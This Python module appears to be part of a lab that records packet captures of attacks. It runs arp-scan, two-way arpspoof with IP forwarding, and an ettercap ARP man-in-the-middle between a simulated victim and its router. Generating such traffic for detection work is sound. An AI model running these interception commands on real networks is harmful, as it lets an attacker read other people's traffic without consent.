"""ARP scan and ARP spoofing: arp-scan scans the subnet; arpspoof and ettercap intercept traffic between a host and its
gateway. Needs arp-scan, dsniff, ettercap-text-only, curl.

Run it as ``python -m pcaps.lab.attacks.arp [SCENE...]``.
"""

from __future__ import annotations

import time
from collections.abc import Iterator
from pathlib import Path

from pcaps._office_hosts import ROUTER
from pcaps.lab._lab import Host, Lab, record

ATTACKER, VICTIM = "10.20.10.66", "10.20.10.21"


def _segment(lab: Lab) -> tuple[Host, Host]:
    """The attacker and the victim, which requests pages beyond the router."""
    site = lab.external("site", "198.51.100.20")
    lab.serve(site, "pages", port=80)
    return lab.host("attacker", ATTACKER), lab.host("desk", VICTIM)


def _browse(lab: Lab, victim: Host, times: int) -> None:
    for _ in range(times):
        lab.run(victim, "curl", "-s", "-m", "3", "-o", "/dev/null", "http://198.51.100.20/")
        time.sleep(1)


def scan(lab: Lab) -> Iterator[None]:
    attacker, _ = _segment(lab)
    yield
    lab.run(attacker, "arp-scan", "-I", "eth0", "-r", "1", "10.20.10.0/24")


def spoof(lab: Lab) -> Iterator[None]:
    """arpspoof in both directions while the victim browses; the attacker forwards the packets."""
    attacker, victim = _segment(lab)
    lab.run(
        attacker,
        "sysctl",
        "-qw",
        "net.ipv4.ip_forward=1",
        "net.ipv4.conf.all.send_redirects=0",
        "net.ipv4.conf.eth0.send_redirects=0",
    )
    yield
    _browse(lab, victim, 2)
    processes = [
        lab.start(attacker, "arpspoof", "-i", "eth0", "-t", one, other)
        for one, other in ((VICTIM, ROUTER.ip), (ROUTER.ip, VICTIM))
    ]
    time.sleep(2)
    _browse(lab, victim, 6)
    for process in processes:
        lab.stop(process)


def ettercap(lab: Lab) -> Iterator[None]:
    """The same with ettercap, which restores the ARP caches when it ends."""
    attacker, victim = _segment(lab)
    yield
    _browse(lab, victim, 2)
    program = lab.start(
        attacker, "ettercap", "-T", "-q", "-i", "eth0", "-M", "arp:remote", f"/{VICTIM}//", f"/{ROUTER.ip}//"
    )
    time.sleep(4)
    _browse(lab, victim, 8)
    lab.stop(program)


if __name__ == "__main__":
    record(Path(__file__).parent, arp_scan=scan, arp_spoof=spoof, arp_ettercap=ettercap)
